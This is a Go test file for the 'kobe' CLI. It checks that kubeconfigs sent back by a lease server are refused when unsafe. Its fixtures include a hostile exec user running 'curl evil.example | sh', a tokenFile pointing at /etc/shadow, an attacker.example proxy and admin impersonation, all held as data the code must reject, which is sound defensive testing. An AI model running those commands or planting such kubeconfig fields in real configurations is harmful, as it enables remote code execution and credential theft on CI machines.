package cli

import (
	"encoding/json"
	"errors"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"k8s.io/client-go/tools/clientcmd"

	"github.com/kunobi-ninja/kobe/internal/apiclient/apiclienttest"
	"github.com/kunobi-ninja/kobe/internal/wire"
)

// kubeconfigWith is a kubeconfig with one https cluster, one context and
// user as given (YAML indented under "user:").
func kubeconfigWith(cluster, user string) string {
	if cluster == "" {
		cluster = "    server: https://10.0.0.1:6443\n    certificate-authority-data: ZmFrZSBDQQ==\n"
	}
	return "apiVersion: v1\nkind: Config\ncurrent-context: c\n" +
		"clusters:\n- name: k\n  cluster:\n" + cluster +
		"users:\n- name: u\n  user:\n" + user +
		"contexts:\n- name: c\n  context:\n    cluster: k\n    user: u\n"
}

const (
	certUser  = "    client-certificate-data: Y2VydA==\n    client-key-data: a2V5\n"
	tokenUser = "    token: abc\n"
	execUser  = "    exec:\n      apiVersion: client.authentication.k8s.io/v1\n      command: /bin/sh\n      args: [\"-c\", \"curl evil.example | sh\"]\n      interactiveMode: Never\n"
)

func TestSafeKubeconfig(t *testing.T) {
	cases := []struct {
		name       string
		kubeconfig string
		// refused holds words the refusal must contain; empty: accepted.
		refused []string
	}{
		{"client certificate", kubeconfigWith("", certUser), nil},
		{"bearer token", kubeconfigWith("", tokenUser), nil},
		{"exec user", kubeconfigWith("", execUser), []string{`user "u" runs a command (exec)`}},
		{"exec user with a token too", kubeconfigWith("", tokenUser+execUser), []string{"exec"}},
		{"auth-provider", kubeconfigWith("", "    auth-provider:\n      name: oidc\n      config: {}\n"), []string{"auth-provider"}},
		{"tokenFile", kubeconfigWith("", "    tokenFile: /etc/shadow\n"), []string{"tokenFile"}},
		{"tokenFile beside a token", kubeconfigWith("", tokenUser+"    tokenFile: /home/ci/.token\n"), []string{"tokenFile"}},
		{"client certificate file", kubeconfigWith("", "    client-certificate: /home/ci/cert.pem\n    client-key: /home/ci/key.pem\n"), []string{"certificate or key file"}},
		{"impersonation", kubeconfigWith("", tokenUser+"    as: system:admin\n"), []string{"impersonates"}},
		{"impersonated groups", kubeconfigWith("", tokenUser+"    as-groups: [system:masters]\n"), []string{"impersonates"}},
		{"username and password", kubeconfigWith("", "    username: admin\n    password: hunter2\n"), []string{"username and password"}},
		{"certificate without key", kubeconfigWith("", "    client-certificate-data: Y2VydA==\n"), []string{"without its key"}},
		{"no credential", kubeconfigWith("", "    {}\n"), []string{"no client certificate and no token"}},
		{"http server", kubeconfigWith("    server: http://10.0.0.1:6443\n", tokenUser), []string{`server "http://10.0.0.1:6443", not an https:// URL`}},
		{"https in capitals", kubeconfigWith("    server: Https://0\n", tokenUser), []string{`server "Https://0", not an https:// URL`}},
		{"server without scheme", kubeconfigWith("    server: 10.0.0.1:6443\n", tokenUser), []string{"not an https:// URL"}},
		{"proxy-url", kubeconfigWith("    server: https://10.0.0.1:6443\n    proxy-url: http://attacker.example:3128\n", tokenUser), []string{"proxy-url"}},
		{"insecure-skip-tls-verify", kubeconfigWith("    server: https://10.0.0.1:6443\n    insecure-skip-tls-verify: true\n", tokenUser), []string{"insecure-skip-tls-verify"}},
		{"certificate-authority file", kubeconfigWith("    server: https://10.0.0.1:6443\n    certificate-authority: /etc/ca.pem\n", tokenUser), []string{"certificate-authority file"}},
		{"a second, unsafe user", strings.Replace(kubeconfigWith("", tokenUser), "contexts:", "- name: other\n  user:\n"+execUser+"contexts:", 1), []string{"user \"other\"", "exec"}},
		{"no cluster", "apiVersion: v1\nkind: Config\n", []string{"no cluster"}},
		{"not a kubeconfig", "{{{not yaml", []string{"does not parse"}},
		{"a context naming an undefined user", strings.Replace(kubeconfigWith("", tokenUser), "user: u\n", "user: ghost\n", 1), []string{"does not define"}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			out, err := safeKubeconfig([]byte(tc.kubeconfig))
			if len(tc.refused) == 0 {
				if err != nil {
					t.Fatalf("refused a safe kubeconfig: %v", err)
				}
				// What is written is what was checked, and it still loads.
				if _, err := clientcmd.Load(out); err != nil {
					t.Fatalf("re-encoded kubeconfig does not load: %v", err)
				}
				return
			}
			if err == nil {
				t.Fatalf("accepted:\n%s", tc.kubeconfig)
			}
			if !errors.Is(err, errUnsafeKubeconfig) {
				t.Errorf("refusal does not say the kubeconfig is unsafe and nothing was written: %v", err)
			}
			for _, w := range tc.refused {
				if !strings.Contains(err.Error(), w) {
					t.Errorf("refusal %q does not mention %q", err, w)
				}
			}
		})
	}
}

// hostileServer answers POST /v1/leases with a Bound lease whose
// kubeconfig is kubeconfig, GET /v1/leases/{id} with the same lease (or
// with get, when set) and PATCH likewise, and records every DELETE.
type hostileServer struct {
	*httptest.Server
	mu       sync.Mutex
	released []string
	get      *wire.Lease
}

// hostileLease is the lease a hostileServer hands out.
func hostileLease(kubeconfig string) wire.Lease {
	return wire.Lease{ID: "lease-0123456789ab", Phase: wire.PhaseBound, Pool: "ci-small", Profile: "ci-small",
		ClusterName: "pool-ci-small-0", EffectiveTTL: "30m", MaxExtensions: 2, Kubeconfig: kubeconfig}
}

func newHostileServer(t *testing.T, kubeconfig string) *hostileServer {
	t.Helper()
	h := &hostileServer{}
	lease := hostileLease(kubeconfig)
	mux := http.NewServeMux()
	answer := func(w http.ResponseWriter, code int, v any) {
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(code)
		_ = json.NewEncoder(w).Encode(v)
	}
	mux.HandleFunc("POST /v1/leases", func(w http.ResponseWriter, _ *http.Request) { answer(w, http.StatusCreated, lease) })
	mux.HandleFunc("GET /v1/leases/{id}", func(w http.ResponseWriter, _ *http.Request) {
		h.mu.Lock()
		defer h.mu.Unlock()
		if h.get != nil {
			answer(w, http.StatusOK, h.get)
			return
		}
		answer(w, http.StatusOK, lease)
	})
	mux.HandleFunc("PATCH /v1/leases/{id}", func(w http.ResponseWriter, _ *http.Request) {
		answer(w, http.StatusOK, wire.ExtendLeaseResponse{Kubeconfig: kubeconfig})
	})
	mux.HandleFunc("DELETE /v1/leases/{id}", func(w http.ResponseWriter, r *http.Request) {
		h.mu.Lock()
		h.released = append(h.released, r.PathValue("id"))
		h.mu.Unlock()
		w.WriteHeader(http.StatusNoContent)
	})
	h.Server = httptest.NewServer(mux)
	t.Cleanup(h.Close)
	return h
}

func (h *hostileServer) releasedIDs() []string {
	h.mu.Lock()
	defer h.mu.Unlock()
	return append([]string(nil), h.released...)
}

// TestLeaseRefusesAnExecKubeconfig: a server that answers a lease with an
// exec user (kubectl would run its command on the CI runner) gets nothing
// written, a non-zero exit, and its lease released.
func TestLeaseRefusesAnExecKubeconfig(t *testing.T) {
	e := newTestEnv(t)
	srv := newHostileServer(t, kubeconfigWith("", execUser))
	t.Setenv("KOBE_ENDPOINT", srv.URL)
	t.Setenv("KOBE_TOKEN", "any")
	id := "lease-0123456789ab"

	custom := filepath.Join(t.TempDir(), "kc.yaml")
	for _, args := range [][]string{{"lease", "ci-small"}, {"lease", "ci-small", "--kubeconfig", custom}, {"kubeconfig", id, "--kubeconfig", custom}} {
		r := kobe(t, args...)
		if r.code == 0 {
			t.Fatalf("kobe %v exited 0 with an exec kubeconfig: %s", args, r)
		}
		for _, w := range []string{"unsafe kubeconfig and nothing was written", "exec"} {
			if !strings.Contains(r.stderr, w) {
				t.Errorf("kobe %v: stderr lacks %q: %s", args, w, r)
			}
		}
		if strings.Contains(r.stdout, "export KUBECONFIG") {
			t.Errorf("kobe %v printed an export line: %s", args, r)
		}
	}
	for _, path := range []string{custom, filepath.Join(e.runtimeDir, "kobe", "kubeconfig-"+id)} {
		if _, err := os.Stat(path); !errors.Is(err, os.ErrNotExist) {
			t.Errorf("%s was written (or stat failed: %v)", path, err)
		}
	}
	if got := srv.releasedIDs(); len(got) != 2 || got[0] != id || got[1] != id {
		t.Errorf("released %v, want the lease released after each refused `kobe lease`", got)
	}
}

// TestRunRefusesAnExecKubeconfig: `kobe run` does not run the command with
// an unsafe kubeconfig, and releases the lease.
func TestRunRefusesAnExecKubeconfig(t *testing.T) {
	newTestEnv(t)
	srv := newHostileServer(t, kubeconfigWith("", execUser))
	t.Setenv("KOBE_ENDPOINT", srv.URL)
	t.Setenv("KOBE_TOKEN", "any")
	marker := filepath.Join(t.TempDir(), "ran")
	r := kobe(t, "run", "ci-small", "--", "touch", marker)
	if r.code == 0 || !strings.Contains(r.stderr, "unsafe kubeconfig") || !strings.Contains(r.stderr, "the command was not run") {
		t.Fatalf("want a refusal: %s", r)
	}
	if _, err := os.Stat(marker); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("the command ran (or stat failed: %v)", err)
	}
	if got := srv.releasedIDs(); len(got) != 1 {
		t.Errorf("released %v, want the lease released", got)
	}
}

// TestExtendKeepsTheKubeconfigWhenTheNewOneIsUnsafe: a re-minted kubeconfig
// that is unsafe does not replace the one on disk.
func TestExtendKeepsTheKubeconfigWhenTheNewOneIsUnsafe(t *testing.T) {
	newTestEnv(t)
	srv := newHostileServer(t, kubeconfigWith("", execUser))
	t.Setenv("KOBE_ENDPOINT", srv.URL)
	t.Setenv("KOBE_TOKEN", "any")
	path := filepath.Join(t.TempDir(), "kc.yaml")
	before := kubeconfigWith("", tokenUser)
	if err := os.WriteFile(path, []byte(before), 0o600); err != nil {
		t.Fatal(err)
	}
	r := kobe(t, "extend", "lease-0123456789ab", "--ttl", "30m", "--kubeconfig", path)
	if r.code == 0 || !strings.Contains(r.stderr, "unsafe kubeconfig") {
		t.Fatalf("want a refusal: %s", r)
	}
	if got, _ := os.ReadFile(path); string(got) != before {
		t.Errorf("the kubeconfig on disk changed to:\n%s", got)
	}
}

// TestPlainHTTPEndpointBeyondLoopback: an http:// endpoint on another
// machine is refused before any request unless --insecure; loopback is fine.
func TestPlainHTTPEndpointBeyondLoopback(t *testing.T) {
	newTestEnv(t)
	t.Setenv("KOBE_TOKEN", apiclienttest.Token)
	for _, endpoint := range []string{"http://kobe.example.com", "http://10.1.2.3:8090", "http://[2001:db8::1]:8090", "http://localhost.evil.example:8090"} {
		r := kobe(t, "--endpoint", endpoint, "leases")
		if r.code == 0 || !strings.Contains(r.stderr, "plain http://") || !strings.Contains(r.stderr, "--insecure") {
			t.Errorf("%s: want a refusal naming --insecure: %s", endpoint, r)
		}
	}

	// Loopback is allowed; another machine is, with --insecure: the
	// request then goes out (and fails to resolve kobe.invalid).
	srv := apiclienttest.New(t)
	mustKobe(t, "--endpoint", srv.URL, "leases")
	mustKobe(t, "--endpoint", strings.Replace(srv.URL, "127.0.0.1", "localhost", 1), "leases")
	r := kobe(t, "--endpoint", "http://kobe.invalid:8090", "--insecure", "leases")
	if r.code == 0 || strings.Contains(r.stderr, "plain http://") {
		t.Errorf("--insecure: want the request attempted (and failing to resolve kobe.invalid), not refused: %s", r)
	}
}

// sameKubeconfig reports whether two kubeconfigs say the same thing (the
// CLI writes what it checked, re-encoded).
func sameKubeconfig(t *testing.T, got, want string) bool {
	t.Helper()
	g, err := clientcmd.Load([]byte(got))
	if err != nil {
		t.Fatalf("written kubeconfig does not load: %v", err)
	}
	w, err := clientcmd.Load([]byte(want))
	if err != nil {
		t.Fatal(err)
	}
	gb, _ := clientcmd.Write(*g)
	wb, _ := clientcmd.Write(*w)
	return string(gb) == string(wb)
}

// TestInstanceLostIsSaid: a lease whose cluster died (reason InstanceLost)
// is named as such by `kobe kubeconfig`, and `kobe run` says that a failed
// command's cluster was lost.
func TestInstanceLostIsSaid(t *testing.T) {
	newTestEnv(t)
	srv := newHostileServer(t, kubeconfigWith("", tokenUser))
	t.Setenv("KOBE_ENDPOINT", srv.URL)
	t.Setenv("KOBE_TOKEN", "any")
	lost := hostileLease("")
	lost.Phase, lost.Reason = wire.PhaseExpired, reasonInstanceLost

	// The command fails after its cluster was lost.
	srv.mu.Lock()
	srv.get = &lost
	srv.mu.Unlock()
	r := kobe(t, "run", "ci-small", "--", "false")
	if r.code != 1 || !strings.Contains(r.stderr, "InstanceLost") || !strings.Contains(r.stderr, "pool-ci-small-0 died or was deleted while leased") {
		t.Errorf("kobe run: want exit 1 and the lost cluster named: %s", r)
	}
	r = kobe(t, "kubeconfig", lost.ID)
	if r.code == 0 || !strings.Contains(r.stderr, "is Expired (InstanceLost): its cluster pool-ci-small-0 died or was deleted while leased; lease another one") {
		t.Errorf("kobe kubeconfig: want the loss said: %s", r)
	}

	// A command that fails on a healthy lease gets no such warning.
	srv.mu.Lock()
	srv.get = nil
	srv.mu.Unlock()
	r = kobe(t, "run", "ci-small", "--", "false")
	if r.code != 1 || strings.Contains(r.stderr, "InstanceLost") {
		t.Errorf("kobe run on a healthy lease: %s", r)
	}
}

// FuzzSafeKubeconfig: whatever a server sends, the check never panics, and
// what it accepts is what it would accept again (the written bytes are the
// checked config) with no user that runs, reads or proxies anything.
func FuzzSafeKubeconfig(f *testing.F) {
	for _, seed := range []string{
		kubeconfigWith("", certUser), kubeconfigWith("", tokenUser), kubeconfigWith("", execUser),
		kubeconfigWith("    server: https://10.0.0.1:6443\n    proxy-url: socks5://x:1\n", tokenUser),
		apiclienttest.Kubeconfig("lease-000000000001"), `{"apiVersion":"v1","kind":"Config"}`, "",
	} {
		f.Add([]byte(seed))
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		out, err := safeKubeconfig(data)
		if err != nil {
			return
		}
		again, err := safeKubeconfig(out)
		if err != nil {
			t.Fatalf("accepted, then refused its own output: %v\n%s", err, out)
		}
		if string(again) != string(out) {
			t.Fatalf("re-encoding is not stable:\n%s\n---\n%s", out, again)
		}
		cfg, err := clientcmd.Load(out)
		if err != nil {
			t.Fatal(err)
		}
		for name, u := range cfg.AuthInfos {
			if u.Exec != nil || u.AuthProvider != nil || u.TokenFile != "" || u.ClientCertificate != "" || u.ClientKey != "" || u.Impersonate != "" || u.Username != "" {
				t.Fatalf("accepted user %q: %+v", name, u)
			}
		}
		for name, c := range cfg.Clusters {
			if c.ProxyURL != "" || c.InsecureSkipTLSVerify || !strings.HasPrefix(c.Server, "https://") {
				t.Fatalf("accepted cluster %q: %+v", name, c)
			}
		}
	})
}
